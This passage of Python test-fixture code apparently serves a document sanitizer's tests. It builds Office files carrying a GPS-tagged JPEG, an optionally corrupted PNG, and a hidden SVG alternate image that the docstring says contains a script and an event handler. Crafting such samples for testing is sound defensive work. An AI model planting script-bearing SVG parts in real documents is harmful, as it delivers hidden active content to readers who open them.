        slide.shapes.title.text = JA_TEXT
        for n, picture in enumerate(pictures):
            slide.shapes.add_picture(io.BytesIO(picture), Inches(1 + n), Inches(2))
        prs.save(out)
    return out.getvalue()


def office_with_pictures(kind: str, *, broken: bytes | None = None) -> bytes:
    """A docx/xlsx/pptx whose first picture is a JPEG with EXIF GPS and whose SVG version
    (Office 2016's svgBlip extension) is an SVG with a script and an event handler; with
    `broken`, a second picture (a PNG) has its bytes replaced by `broken`."""
    pictures = [jpeg_with_gps()] + ([png_plain()] if broken is not None else [])
    data = _picture_doc(kind, pictures)
    z = zipfile.ZipFile(io.BytesIO(data))
    host = next(n for n in z.namelist() if n.endswith(".xml") and b"<a:blip " in z.read(n))
    directory = posixpath.dirname(host)
    rels_name = posixpath.join(directory, "_rels", posixpath.basename(host) + ".rels")
    media = posixpath.dirname(next(n for n in z.namelist() if "/media/" in n))
    svg_part = f"{media}/vector1.svg"
    xml = z.read(host).decode()
    svg_blip = (
        f'<a:extLst><a:ext uri="{SVG_BLIP_EXT}"><asvg:svgBlip xmlns:asvg="{ASVG}" '
        f'xmlns:r="{R}" r:embed="rIdSvg1"/></a:ext></a:extLst>'
    )
    xml = re.sub(r"(<a:blip [^>]*?)\s*/>", lambda m: f"{m.group(1)}>{svg_blip}</a:blip>", xml, 1)
    rels = _add_rels(
        z.read(rels_name),
        f'<Relationship Id="rIdSvg1" Type="{R}/image" '
        f'Target="{posixpath.relpath(svg_part, directory)}"/>',
    )
    ct = z.read("[Content_Types].xml").replace(
        b"</Types>", b'<Default Extension="svg" ContentType="image/svg+xml"/></Types>'
    )
    edit: dict[str, bytes | None] = {"[Content_Types].xml": ct, host: xml.encode(), rels_name: rels}
    if broken is not None:
        png = next(n for n in z.namelist() if n.startswith(media) and n.endswith(".png"))
        edit[png] = broken
    return _rewrite_zip(data, edit, {svg_part: svg_active()})
